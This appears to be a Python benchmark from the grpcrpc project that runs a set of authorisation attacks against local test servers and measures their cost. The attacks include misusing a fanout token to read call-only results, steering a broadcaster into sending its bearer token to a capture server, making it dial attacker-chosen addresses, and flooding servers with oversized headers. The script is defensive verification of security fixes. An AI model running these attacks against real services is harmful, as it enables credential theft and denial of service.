"""Issue 15's authorisation attacks, measured: what the attacker gets, and what it costs others.

One server process (three `compute` servers with token auth and an ACL, an `open` server with
no auth, a broadcaster with auth and one without, all on one event loop, logging at INFO to a
file) and, in this process, a legitimate `RPCClient` calling the attacked server in a loop
while the attacker sends raw grpcio calls with hand-built protobuf (tests/security/raw.py).
Per attack: the server's RSS growth (peak during the attack over the level before it), its log
growth, the legitimate client's calls, failures, p99 and worst latency, and what came back to
the attacker.

    python -m bench.attack_authz                 # this checkout
    # the code before the fixes, with this script and its helpers:
    rm -rf /tmp/before && mkdir /tmp/before && git archive bbacc7a grpcrpc | tar -x -C /tmp/before
    cp -r bench tests /tmp/before/ && cd /tmp/before && PYTHONPATH=/tmp/before \\
        /path/to/.venv/bin/python -m bench.attack_authz
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import json
import logging
import os
import pathlib
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from typing import Any

import grpc

CONDUCTOR = "conductor-token-0123456789"
BROADCASTER = "broadcaster-token-01234567"


# -- the server process ----------------------------------------------------------------------

def serve() -> None:
    logging.basicConfig(level=logging.INFO, stream=sys.stderr,
                        format="%(asctime)s %(levelname)s %(name)s %(message)s")
    from grpcrpc import MemoryDiscovery, RPCServer, Target, TransportOptions
    from grpcrpc.auth import ACL, ServerAuth, Tokens
    from grpcrpc.broadcaster import Broadcaster

    rules: list[dict[str, Any]] = [
        {"identity": "conductor", "topics": ["scheduler"], "ops": ["call"]},
        {"identity": "conductor", "topics": ["compute"], "ops": ["cast", "fanout"]},
        {"identity": "conductor", "topics": ["compute"], "ops": ["call"], "methods": ["status"]},
        {"identity": "broadcaster", "topics": ["compute"], "ops": ["fanout", "relay"]},
    ]
    try:
        acl = ACL.from_rules(rules)
    except ValueError:  # code from before the `relay` right
        rules[-1]["ops"] = ["fanout"]
        acl = ACL.from_rules(rules)
    auth = ServerAuth(tokens=Tokens({CONDUCTOR: "conductor", BROADCASTER: "broadcaster"}),
                      acl=acl)

    class Api:
        def secret(self, ctxt: Any) -> str:
            return "SECRET-RESULT"

        def status(self, ctxt: Any) -> str:
            return "ok"

        def refresh(self, ctxt: Any) -> None:
            return None

    async def main() -> None:
        d = MemoryDiscovery()
        servers = [RPCServer(Target(topic="compute", server=f"c{i}"), [Api()], registry=d,
                             auth=auth) for i in range(3)]
        servers.append(RPCServer(Target(topic="open", server="o"), [Api()], registry=d))
        for s in servers:
            await s.start()
        bs = [Broadcaster(d, registry=d, name=n, auth=a,
                          transport_options=TransportOptions(token=BROADCASTER))
              for n, a in (("b1", auth), ("b0", None))]
        for b in bs:
            await b.start()
        print(json.dumps({"c0": servers[0].address, "open": servers[3].address,
                          "b1": bs[0].address, "b0": bs[1].address}), flush=True)
        await asyncio.Event().wait()

    asyncio.run(main())


# -- measuring -------------------------------------------------------------------------------

def rss_mb(pid: int) -> float:
    for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


class Peak:
    """The highest RSS of a process while sampling runs."""

    def __init__(self, pid: int) -> None:
        self.pid, self.peak = pid, rss_mb(pid)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.wait(0.05):
            self.peak = max(self.peak, rss_mb(self.pid))

    def __enter__(self) -> Peak:
        self._thread.start()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self._stop.set()
        self._thread.join()


def summarise(outcomes: list[str]) -> str:
    return ", ".join(f"{k} x{n}" for k, n in collections.Counter(outcomes).most_common())


def rpc_error(err: grpc.RpcError) -> str:
    return f"{err.code().name}: {err.details()}"  # type: ignore[attr-defined]


# -- the attacks -----------------------------------------------------------------------------
# Each returns what the attacker got back, in a few words.

def fanout_as_call(a: dict[str, str]) -> str:
    from tests.security.raw import Raw, envelope, outcome

    raw = Raw(a["c0"], BROADCASTER)
    got: list[str] = []
    secrets = 0
    try:
        for i in range(300):
            env = envelope(f"u{i}", "compute", "secret", fanout=True)
            for reply in ([raw.unary(env)] if i % 3 == 0 else
                          raw.stream([env]) if i % 3 == 1 else raw.batches([[env] * 1])):
                got.append(outcome(reply))
                secrets += b"SECRET-RESULT" in reply.SerializeToString()
    finally:
        raw.close()
    return f"{summarise(got)}; call-only result read {secrets} times"


def targets_with_token(a: dict[str, str]) -> str:
    from tests.security.raw import CaptureServer, Raw, envelope, fanout_request

    capture = CaptureServer()
    raw = Raw(a["b1"], CONDUCTOR)  # may fanout compute, is no broadcaster
    got: list[str] = []
    try:
        for i in range(50):
            request = fanout_request(envelope(f"f{i}", "compute", "refresh", cast=True),
                                     [(capture.address, "c0")])
            try:
                report = raw.fanout(request)
                got.append(f"report {report.delivered}/{report.targets}")
            except grpc.RpcError as err:
                got.append(rpc_error(err))
        time.sleep(0.5)
        creds = capture.credentials()
    finally:
        raw.close()
        capture.close()
    stolen = sum(c == f"Bearer {BROADCASTER}" for c in creds)
    return (f"{summarise(got)}; capture server got {len(capture.seen)} calls, "
            f"{stolen} with the broadcaster's token")


def targets_without_auth(a: dict[str, str]) -> str:
    from tests.security.raw import Listeners, Raw, envelope, fanout_request

    listeners = Listeners(200)
    raw = Raw(a["b0"])
    got: list[str] = []

    def send(msg_id: str, addresses: list[str]) -> None:
        request = fanout_request(envelope(msg_id, "compute", "refresh", cast=True),
                                 [(addr, "x") for addr in addresses])
        try:
            report = raw.fanout(request, timeout=30)
            got.append(f"report {report.delivered}/{report.targets} delivered")
        except grpc.RpcError as err:
            got.append(rpc_error(err))

    try:
        t0 = time.perf_counter()
        send("all", listeners.addresses)  # all 200 in one request
        for i in range(0, 198, 3):  # and three at a time (no more than the topic has)
            send(f"s{i}", listeners.addresses[i:i + 3])
        elapsed = time.perf_counter() - t0
        time.sleep(0.5)
        dialled = listeners.accepted()
    finally:
        raw.close()
        listeners.close()
    return (f"{summarise(got)} in {elapsed:.2f}s; {dialled} connections to the 200 "
            f"attacker-chosen addresses")


def huge_baggage(a: dict[str, str]) -> str:
    from tests.security.raw import Raw, envelope, outcome

    raw = Raw(a["open"])
    got: list[str] = []
    t0 = time.perf_counter()
    try:
        for r in range(20):
            batch = [envelope(f"b{r}-{i}", "open", "status",
                              headers={"baggage": " " * 8191}) for i in range(100)]
            got += [outcome(x) for x in raw.batches([batch], timeout=120)]
    finally:
        raw.close()
    return f"{summarise(got)} in {time.perf_counter() - t0:.1f}s (2,000 envelopes)"


def junk_baggage(a: dict[str, str]) -> str:
    from tests.security.raw import Raw, envelope, outcome

    raw = Raw(a["open"])
    got: list[str] = []
    t0 = time.perf_counter()
    try:
        for r in range(20):
            batch = [envelope(f"j{r}-{i}", "open", "status", headers={"baggage": "x" * 8000})
                     for i in range(100)]
            got += [outcome(x) for x in raw.batches([batch], timeout=120)]
    finally:
        raw.close()
    return f"{summarise(got)} in {time.perf_counter() - t0:.1f}s (2,000 envelopes)"


def misrouted_probe(a: dict[str, str]) -> str:
    from tests.security.raw import Raw, envelope, outcome

    raw = Raw(a["c0"])  # no token at all
    try:
        reply = raw.unary(envelope("m1", "compute", "status", server="elsewhere",
                                   exchange="probe", az="probe"))
    finally:
        raw.close()
    return f"{outcome(reply)}: {reply.failure.message!r}"


def long_field(a: dict[str, str]) -> str:
    from tests.security.raw import Raw, envelope, outcome

    raw = Raw(a["c0"], CONDUCTOR)
    got, biggest = [], 0
    try:
        for i in range(50):
            reply = raw.unary(envelope(f"l{i}", "compute", "status", exchange="x" * (1 << 20)))
            got.append(outcome(reply))
            biggest = max(biggest, len(reply.SerializeToString()))
    finally:
        raw.close()
    return f"{summarise(got)}; largest reply {biggest:,} bytes"


def cancel_on_unary(a: dict[str, str]) -> str:
    from grpcrpc.generated.v1 import envelope_pb2 as pb
    from tests.security.raw import Raw

    raw = Raw(a["c0"], CONDUCTOR)
    try:
        data = raw.channel.unary_unary("/grpcrpc.v1.Transport/Unary")(
            pb.Envelope(id="c1", cancel=True).SerializeToString(), timeout=10,
            metadata=raw.metadata)
    finally:
        raw.close()
    if not data:
        return "gRPC OK with an empty body"
    reply = pb.Reply.FromString(data)
    return f"{pb.ErrorCode.Name(reply.failure.code)}: {reply.failure.message!r}"


def replay(a: dict[str, str]) -> str:
    from tests.security.raw import Raw, envelope, outcome

    raw = Raw(a["c0"], CONDUCTOR)
    env = envelope("r1", "compute", "refresh", cast=True).SerializeToString()
    try:
        got = [outcome(raw.unary(env)) for _ in range(3)]
    finally:
        raw.close()
    return f"the same cast sent 3 times: {summarise(got)} (no replay protection, documented)"


ATTACKS: list[tuple[str, str, str, Callable[[dict[str, str]], str]]] = [
    ("1", "fanout=True cast=False 'secret' with the broadcaster's fanout-only token, "
          "100 each over Unary/Stream/Batches", "c0", fanout_as_call),
    ("2", "conductor (fanout right, no relay) names a capture server as target, 50 times",
     "c0", targets_with_token),
    ("2", "no-auth broadcaster handed 200 attacker-chosen addresses (once, then 3 at a time)",
     "c0",
     targets_without_auth),
    ("8", "20 batches x 100 envelopes with an 8,191-space baggage, no-auth server", "open",
     huge_baggage),
    ("8", "20 batches x 100 envelopes with an 8,000-character malformed baggage (within the "
          "bounds: admitted), no-auth server", "open", junk_baggage),
    ("s", "unauthenticated envelope for another server/exchange/AZ", "c0", misrouted_probe),
    ("s", "1 MB exchange, 50 times (authenticated)", "c0", long_field),
    ("s", "cancel envelope on Unary", "c0", cancel_on_unary),
    ("s", "replay of a finished cast", "c0", replay),
]


def legit_client(a: dict[str, str], which: str) -> Any:
    from grpcrpc import RPCClient, StaticResolver, Target, TransportOptions
    from grpcrpc.discovery.base import Endpoint

    if which == "open":
        resolver = StaticResolver([Endpoint(a["open"], "open", "o")])
        return RPCClient(resolver, Target(topic="open", server="o"), timeout=5)
    resolver = StaticResolver([Endpoint(a["c0"], "compute", "c0")])
    return RPCClient(resolver, Target(topic="compute", server="c0"), timeout=5,
                     options=TransportOptions(token=CONDUCTOR))


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--json", help="also write the rows here")
    args = parser.parse_args(argv)
    import grpcrpc
    from tests.security.raw import LegitLoad
    log_path = pathlib.Path(tempfile.mkdtemp(prefix="grpcrpc-attack-")) / "server.log"
    with log_path.open("w") as log_file:
        proc = subprocess.Popen([sys.executable, "-m", "bench.attack_authz", "--serve"],
                                stdout=subprocess.PIPE, stderr=log_file, text=True)
    rows = []
    try:
        assert proc.stdout is not None
        addresses = json.loads(proc.stdout.readline())
        print(f"grpcrpc from {os.path.dirname(grpcrpc.__file__)}; server log {log_path}")
        for item, what, target, attack in ATTACKS:
            client = legit_client(addresses, target)
            client.call({}, "status")  # connected and warm before the attack
            time.sleep(0.3)
            before_rss, before_log = rss_mb(proc.pid), log_path.stat().st_size
            with Peak(proc.pid) as peak, LegitLoad(lambda c=client: c.call({}, "status"),
                                                   "ok") as load:
                time.sleep(0.2)
                try:
                    got = attack(addresses)
                except Exception as err:  # the attack itself failing is a result too
                    got = f"attack raised {type(err).__name__}: {str(err)[:200]}"
                time.sleep(0.2)
            client.close()
            row = {
                "item": item, "attack": what, "got": got,
                "rss_growth_mb": round(peak.peak - before_rss, 1),
                "log_growth_kb": round((log_path.stat().st_size - before_log) / 1024, 1),
                "legit_calls": len(load.latencies), "legit_failures": len(load.failures),
                "legit_p99_ms": round(load.p99 * 1000, 1),
                "legit_worst_ms": round(load.worst * 1000, 1),
                "failure_sample": load.failures[:2],
            }
            rows.append(row)
            print(json.dumps(row), flush=True)
    finally:
        proc.kill()
        proc.wait()
    print()
    print("| # | attack | server RSS growth | log growth | legit calls / failures | legit p99 "
          "(worst) | attacker got |")
    print("|---|---|---|---|---|---|---|")
    for r in rows:
        print(f"| {r['item']} | {r['attack']} | {r['rss_growth_mb']} MB | "
              f"{r['log_growth_kb']} KB | {r['legit_calls']} / {r['legit_failures']} | "
              f"{r['legit_p99_ms']} ms ({r['legit_worst_ms']} ms) | {r['got']} |")
    if args.json:
        pathlib.Path(args.json).write_text(json.dumps(rows, indent=1))


if __name__ == "__main__":
    if sys.argv[1:] == ["--serve"]:
        serve()
    else:
        main()
